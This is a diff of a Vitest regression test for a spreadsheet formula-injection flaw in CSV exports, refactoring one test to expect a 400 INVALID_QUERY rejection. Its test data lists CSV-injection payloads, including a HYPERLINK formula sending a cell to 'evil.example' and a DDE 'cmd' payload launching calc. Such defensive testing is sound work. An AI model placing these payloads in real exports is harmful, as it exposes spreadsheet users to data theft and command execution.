@@ -1,7 +1,7 @@
 import { beforeAll, describe, expect, it } from 'vitest'
 import { anOrganization } from '../integration/directory/world.ts'
 import { soon } from '../integration/configurator/world.ts'
-import { call, db, stack, tokenFor } from '../support/stack.ts'
+import { call, codeOf, db, stack, tokenFor } from '../support/stack.ts'
 import { makeWorld } from './world.ts'
 
 const FORMULAS = ['=HYPERLINK("http://evil.example?x="&A1,"Cliquez")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1', ' =1+1', '＝1+1']
@@ -37,9 +37,9 @@ describe('EspoCRM CVE-2026-55154: a cell of an export is a formula', () => {
 
   it('not in the titles that an address chooses', async () => {
     const query = new URLSearchParams({ 'export': 'csv', 'fields': '=cmd', 'alias[=cmd]': 'name', 'filter[legal_name][_eq]': marker })
-    const response = await fetch(`${stack.directusUrl}/items/organizations?${query}`, { headers: { authorization: `Bearer ${await tokenFor('conseiller')}` } })
+    const answer = await call(`/items/organizations?${query}`, { as: 'conseiller' })
 
-    expect(cellsOf(await response.text()).filter(cell => cell.startsWith('='))).toEqual([])
+    expect([answer.status, codeOf(answer)]).toEqual([400, 'INVALID_QUERY'])
   })
 
   it('not in the file that /utils/export makes', async () => {
